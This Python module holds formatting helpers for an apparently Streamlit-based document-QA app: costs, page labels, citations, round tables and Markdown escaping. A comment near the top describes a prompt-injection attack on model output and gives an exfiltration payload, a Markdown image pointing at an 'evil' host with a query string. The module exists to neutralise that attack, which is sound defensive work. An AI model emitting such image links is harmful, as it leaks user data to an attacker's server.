"""Pure formatting for the app: numbers, pages, tables, and Markdown that is safe for model output."""

from __future__ import annotations

import re
from collections.abc import Sequence
from typing import Any

from minions.cost import CostReport, MeterEntry, add_costs
from minions.protocols.clip import clip
from minions.protocols.result import Citation, RoundRecord

# Model output and document text are untrusted. Streamlit renders Markdown images and links, so a
# prompt-injected `![](https://evil/?q=...)` would make the browser fetch a URL the model chose.
# Escaping these characters keeps bold/lists readable but makes links, images and LaTeX inert.
_UNSAFE_MD = re.compile(r"([\\\[\]<>$`])")


_MD_PUNCT = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~$&])")


def safe_md(text: str) -> str:
    """Keeps emphasis and lists (answers read better), makes links, images, HTML and LaTeX inert."""
    return _UNSAFE_MD.sub(r"\\\1", text)


def literal_md(text: str) -> str:
    """Shows the text exactly, no Markdown at all: for quotes from documents and short model outputs."""
    return _MD_PUNCT.sub(r"\\\1", text)


def usd(x: float | None) -> str:
    if x is None:
        return "unknown (no price)"
    return f"${x:.4f}" if x >= 0.01 else f"${x:.6f}"


def tokens(n: int) -> str:
    return f"{n:,}"


def pages_label(start: int | None, end: int | None) -> str:
    if start is None:
        return ""
    return f"p. {start}" if end in (None, start) else f"pp. {start}–{end}"


def saving(rep: CostReport) -> tuple[str, str | None]:
    """Dollars saved against remote-only, and a note: how many times cheaper (or costlier)."""
    spent, est = rep.role("remote").cost_usd, rep.remote_only_estimate_usd
    if spent is None or est is None:
        return "unknown", None
    if spent > est:  # tiny documents: planning can cost more than sending everything once
        return "none", f"-{usd(spent - est)} vs remote-only"
    ratio = rep.savings_ratio
    return usd(est - spent), (f"{ratio:.1f}× cheaper" if ratio else "no remote spend")


_PARAGRAPHS = re.compile(r"\n[ \t]*\n")


def without_repeats(text: str) -> tuple[str, int]:
    """The answer with paragraphs that repeat an earlier one word for word (up to whitespace) left
    out, and how many were. Small models loop ("X.\n\nX."); the reader sees each paragraph once,
    and the run log keeps the reply as written."""
    seen: set[str] = set()
    kept: list[str] = []
    for para in _PARAGRAPHS.split(text):
        key = " ".join(para.split())
        if key and key in seen:
            continue
        seen.add(key)
        kept.append(para)
    return "\n\n".join(kept), len(_PARAGRAPHS.split(text)) - len(kept)


def citation_label(c: Citation, titles: dict[str, str] | None = None, n: int = 160) -> str:
    """A citation as a short one-line label (a button's): document, pages and the quote's start."""
    name = (titles or {}).get(c.doc_id, c.doc_id)
    where = ", ".join(x for x in (clip(name, 60), pages_label(c.page_start, c.page_end)) if x)
    return literal_md(f"{where} — “{clip(c.text, n)}”")


def citation_line(c: Citation, titles: dict[str, str] | None = None) -> str:
    """One Markdown line for a citation: document, pages, quoted text (escaped)."""
    name = (titles or {}).get(c.doc_id, c.doc_id)
    where = ", ".join(x for x in (literal_md(name), pages_label(c.page_start, c.page_end)) if x)
    return f"**{where}** — “{literal_md(clip(c.text, 300))}”"


DECISIONS = {"final_answer": "answered", "another_round": "asked for another round",
             "forced_answer": "round limit reached, answered with what it had"}


def rounds_table(calls: Sequence[MeterEntry]) -> list[dict[str, Any]]:
    """Per-round cost from the meter: one row per round (calls without a round come first)."""
    by_round: dict[int | None, list[MeterEntry]] = {}
    for e in calls:
        by_round.setdefault(e.round, []).append(e)
    rows = []
    for rnd in sorted(by_round, key=lambda r: -1 if r is None else r):
        entries = by_round[rnd]
        remote = [e for e in entries if e.role == "remote"]
        local = [e for e in entries if e.role == "local"]
        rows.append({
            "round": "—" if rnd is None else str(rnd),
            "remote calls": len(remote),
            "remote tokens": sum(e.usage.total_tokens for e in remote),
            "remote $": add_costs(e.cost_usd for e in remote),
            "local calls": len(local),
            "local tokens": sum(e.usage.total_tokens for e in local),
        })
    return rows


def jobs_table(rnd: RoundRecord) -> list[dict[str, Any]]:
    return [{"job": j.job_id, "task": j.task_id, "chunk": j.chunk_id,
             "pages": pages_label(*j.pages), "status": j.status.value, "answer": j.answer or "",
             "citation": j.citation or "", "note": j.note} for j in rnd.jobs]


def plan_tasks(plan: dict[str, Any] | None) -> list[str]:
    """The task instructions of a MinionS plan, whatever shape the task entries have."""
    out = []
    for t in (plan or {}).get("tasks", []) or []:
        out.append(str(t.get("instruction", t)) if isinstance(t, dict) else str(t))
    return out
